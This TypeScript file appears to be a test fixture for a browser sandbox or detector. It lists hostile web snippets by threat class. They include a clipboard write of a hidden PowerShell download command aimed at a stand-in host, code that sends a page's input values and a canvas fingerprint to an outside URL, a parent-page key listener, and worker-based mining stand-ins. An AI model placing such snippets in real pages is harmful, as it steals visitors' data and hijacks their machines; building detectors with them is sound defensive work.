import { type Attack, code } from './attack.ts'

export const taking: Attack[] = [
  {
    name: 'asks for notifications',
    threatClass: 'push-permission-lure',
    harm: 'sensor',
    sign: 'notification',
    ways: ['write', 'srcdoc', 'wrapper', 'page-script'],
    markup: () => code('Notification.requestPermission()'),
  },
  {
    name: 'asks where the reader is',
    threatClass: 'push-permission-lure',
    harm: 'sensor',
    sign: 'position',
    ways: ['write'],
    markup: () => code('navigator.geolocation.getCurrentPosition(function () {})'),
  },
  {
    name: 'fills the history of the page',
    threatClass: 'back-button-hijack',
    harm: 'sensor',
    sign: 'history',
    ways: ['write', 'srcdoc', 'wrapper'],
    markup: () =>
      code(`var n = 0; function step() { top.history.pushState({}, '', '#' + n); if (n++ < 20) step() } step()`),
  },
  {
    name: 'waits for the way back',
    threatClass: 'back-button-hijack',
    harm: 'sensor',
    sign: 'popstate',
    ways: ['write', 'srcdoc'],
    markup: () => code(`var t = top; t.addEventListener('popstate', go); function go() {}`),
  },
  {
    name: 'wants the whole screen',
    threatClass: 'full-screen-grab',
    harm: 'sensor',
    sign: 'screen',
    ways: ['write'],
    markup: () => code('document.documentElement.requestFullscreen().catch(function () {})'),
  },
  {
    name: 'puts a command into the clipboard',
    threatClass: 'clipboard-hijack',
    harm: 'sensor',
    sign: 'clipboard',
    ways: ['write', 'srcdoc'],
    markup: () => code(`navigator.clipboard.writeText('powershell -w hidden iwr a.example').catch(function () {})`),
  },
  {
    name: 'listens to what is typed on the page',
    threatClass: 'data-theft',
    harm: 'sensor',
    sign: 'typing',
    ways: ['write', 'srcdoc'],
    markup: () => code(`var d = parent.document; d.addEventListener('keydown', function () {}, true)`),
  },
  {
    name: 'reads the fields of the page',
    threatClass: 'data-theft',
    harm: 'request',
    ways: ['write', 'srcdoc'],
    markup: ({ harmful }) =>
      code(
        `var v = []; parent.document.querySelectorAll('input').forEach(function (f) { v.push(f.value) }); if (v.join('')) new Image().src = '${harmful}?' + v`,
      ),
  },
  {
    name: 'takes a fingerprint and sends it',
    threatClass: 'data-theft',
    harm: 'request',
    ways: ['write', 'srcdoc', 'wrapper'],
    markup: ({ harmful }) =>
      code(
        `var c = document.createElement('canvas'), x = c.getContext('2d'); x.fillText('abc', 2, 9); var d = c.toDataURL(); new Image().src = '${harmful}?' + d.length + navigator.plugins.length`,
      ),
  },
  {
    name: 'mines with compiled code in workers',
    threatClass: 'cryptomining',
    harm: 'sensor',
    sign: 'miner',
    ways: ['write', 'srcdoc', 'wrapper'],
    markup: () =>
      code(
        `var b = URL.createObjectURL(new Blob(['new WebAssembly.Module(new Uint8Array([0,97,115,109,1,0,0,0])); setTimeout(() => { postMessage(1) }, 350)'])); for (var i = 0; i < 3; i++) { var w = new Worker(b); w.onmessage = function () { top.sensed('miner') } }`,
      ),
  },
  {
    name: 'mines with a worker for every core',
    threatClass: 'cryptomining',
    harm: 'sensor',
    sign: 'miner',
    ways: ['write'],
    markup: () =>
      code(
        `var b = URL.createObjectURL(new Blob(['setTimeout(() => { postMessage(1) }, 350)'])); for (var i = 0; i < 8; i++) { var w = new Worker(b); w.onmessage = function () { top.sensed('miner') } }`,
      ),
  },
]
